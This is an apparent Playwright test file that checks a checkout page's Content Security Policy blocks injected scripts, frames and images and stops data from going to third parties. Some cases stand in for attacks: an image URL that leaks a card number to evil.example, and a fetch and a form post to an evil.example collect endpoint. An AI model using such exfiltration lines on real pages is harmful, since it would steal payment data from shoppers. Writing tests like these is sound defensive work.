import { createHash } from 'node:crypto'
import type { Page } from '@playwright/test'
import { waitForHydration } from '../fixtures/hydration.ts'
import { expect, test } from '../fixtures/test.ts'
import { SHOP_PORT } from '../fixtures/port.ts'

/** A page of the checkout document that does not redirect when the basket is empty. */
const CHECKOUT_PATH = '/checkout/nope'
const SANDBOX_ORIGIN = `http://sandbox.localhost:${SHOP_PORT + 1}`

type AddedElement = { tag: 'script' | 'iframe' | 'img'; src: string; integrity?: string }

/** Adds an element to the page, as injected code would. */
const addElement = (page: Page, element: AddedElement) =>
  page.evaluate(({ tag, src, integrity }) => {
    const outcomes: string[] = []
    Object.assign(window, { outcomes })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      outcomes.push(effectiveDirective),
    )
    const checked = integrity ? { integrity, crossOrigin: 'anonymous' } : {}
    const added = Object.assign(document.createElement(tag), { src, ...checked })
    // A blocked frame loads an empty page instead.
    if (tag !== 'iframe') added.addEventListener('load', () => outcomes.push('loaded'))
    if (tag === 'script') added.addEventListener('error', () => outcomes.length || outcomes.push('failed'))
    document.body.append(added)
  }, element)

/** The hash of a provider's script, as the shop loads it. */
async function readIntegrity(url: string): Promise<string> {
  const script = await (await fetch(url.replace('sandbox.localhost', '127.0.0.1'))).bytes()
  return `sha384-${createHash('sha384').update(script).digest('base64')}`
}

/** The outcome for the added element: the directive that blocked it, whichever policies have it, or "loaded". */
const readOutcomes = (page: Page) =>
  page.evaluate(() => [...new Set(Reflect.get(window, 'outcomes') as string[])])

const blockedElements: (AddedElement & { what: string; rule: string })[] = [
  {
    what: 'a tag manager',
    tag: 'script',
    src: `${SANDBOX_ORIGIN}/gtm.js?id=GTM-DEMO`,
    rule: 'script-src-elem',
  },
  {
    what: 'a script of an unknown origin',
    tag: 'script',
    src: 'https://evil.example/x.js',
    rule: 'script-src-elem',
  },
  {
    what: 'a file of another release of the checkout',
    tag: 'script',
    src: '/r/checkout/f/CheckoutPage.0123456789abcdef.js',
    rule: 'script-src-elem',
  },
  { what: 'a frame of another page', tag: 'iframe', src: `${SANDBOX_ORIGIN}/outbox`, rule: 'frame-src' },
  { what: 'a picture that leaks', tag: 'img', src: 'https://evil.example/?card=4242', rule: 'img-src' },
]

test('checkout loads only its two releases and the payment provider', async ({ page, expectConsole }) => {
  expectConsole(/violates the following Content Security Policy directive|status of 404 .*nope/)
  const home = await (await page.goto('/'))?.text()
  const [, menuEntry = ''] = /"menu:[^{]*\{[^}]*"remoteEntry":"([^"]+)"/.exec(home ?? '') ?? []
  for (const { what, rule, ...element } of blockedElements) {
    await page.goto(CHECKOUT_PATH)
    await waitForHydration(page)
    await addElement(page, element)
    await expect.poll(() => readOutcomes(page), what).toEqual([rule])
  }
  await page.goto(CHECKOUT_PATH)
  await addElement(page, { tag: 'script', src: `/r/menu/f/${menuEntry}` })
  await expect.poll(() => readOutcomes(page)).toEqual(['script-src-elem'])
  // The provider's script, without and with its hash.
  const src = `${SANDBOX_ORIGIN}/checkout-web-components/index.js`
  await addElement(page, { tag: 'script', src })
  await expect.poll(() => readOutcomes(page)).toEqual(['failed'])
  await addElement(page, { tag: 'script', src, integrity: await readIntegrity(src) })
  await expect.poll(() => readOutcomes(page)).toEqual(['loaded'])
})

test('checkout sends nothing to third parties', async ({ page, expectConsole }) => {
  expectConsole(/Content Security Policy|status of 404 .*nope/)
  await page.goto(CHECKOUT_PATH)
  await waitForHydration(page)
  const sent = page.evaluate(() => fetch('https://evil.example/collect').then(String, () => 'refused'))
  expect(await sent).toBe('refused')
  const rule = page.evaluate(
    () =>
      new Promise<string>((done) => {
        document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective))
        const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/collect' })
        document.body.append(form)
        form.submit()
      }),
  )
  expect(await rule).toBe('form-action')
})

test('checkout does not run scripts of other areas or the tag manager', async ({ page, expectConsole }) => {
  expectConsole(/status of 404 .*nope/)
  const scripts: string[] = []
  page.on('request', (request) => {
    if (request.resourceType() === 'script') scripts.push(new URL(request.url()).pathname)
  })
  await page.goto(CHECKOUT_PATH)
  await waitForHydration(page)
  await page.waitForLoadState('networkidle')
  expect(scripts.filter((path) => !/^\/r\/(host|checkout)\//.test(path))).toEqual([])
  expect(scripts.length).toBeGreaterThan(1)
})
